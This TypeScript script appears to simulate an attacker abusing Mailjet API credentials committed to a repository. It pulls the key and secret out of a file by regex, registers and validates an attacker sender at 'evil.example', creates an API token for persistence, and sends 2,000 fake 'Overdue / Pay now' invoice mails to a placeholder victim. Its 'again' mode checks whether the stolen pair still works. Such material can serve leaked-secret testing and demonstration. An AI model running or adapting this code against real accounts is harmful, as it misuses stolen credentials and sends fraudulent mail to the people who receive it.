// Somebody who has read the repository. Takes the pair from the file that was committed, and sends with it what Mailjet lets
// through; with the word "again" only tries whether the pair still works.
import { readFileSync } from "node:fs";

const FROM = "invoices@evil.example";
const CALLS = 40;
const MAILS_PER_CALL = 50;
const [file = "", word] = process.argv.slice(2);
const [apiKey, apiSecret] = readFileSync(file, "utf8").match(/\b[0-9a-f]{32}\b/g) ?? [];
const login = `Basic ${Buffer.from(`${apiKey}:${apiSecret}`).toString("base64")}`;

if (word === "again") {
  console.log(`The attacker sends again: Mailjet answers ${await send(1)}.`);
} else {
  const sender = await post("v3/REST/sender", { Email: FROM });
  const { Data } = (await sender.json()) as { Data: { ID: number }[] };
  await post(`v3/REST/sender/${Data[0]?.ID}/validate`, {});
  const token = await post("v3/REST/apitoken", { TokenType: "page", AllowedAccess: "campaigns" });
  let mails = 0;
  for (let call = 0; call < CALLS; call += 1) mails += (await send(MAILS_PER_CALL)) === 200 ? MAILS_PER_CALL : 0;
  console.log(
    `The attacker has sent ${mails} mails from a sender of its own, and made an API token (${token.status}).`,
  );
}

async function send(mails: number): Promise<number> {
  const mail = {
    From: { Email: FROM },
    To: [{ Email: "victim@example.net" }],
    Subject: "Overdue",
    TextPart: "Pay now.",
  };
  return (await post("v3.1/send", { Messages: Array.from({ length: mails }, () => mail) })).status;
}

function post(path: string, body: object): Promise<Response> {
  const headers = { authorization: login, "content-type": "application/json" };
  const address = `https://${process.env["MAILJET_SECRETS_HOST"]}/${path}`;
  return fetch(address, { method: "POST", headers, body: JSON.stringify(body) });
}
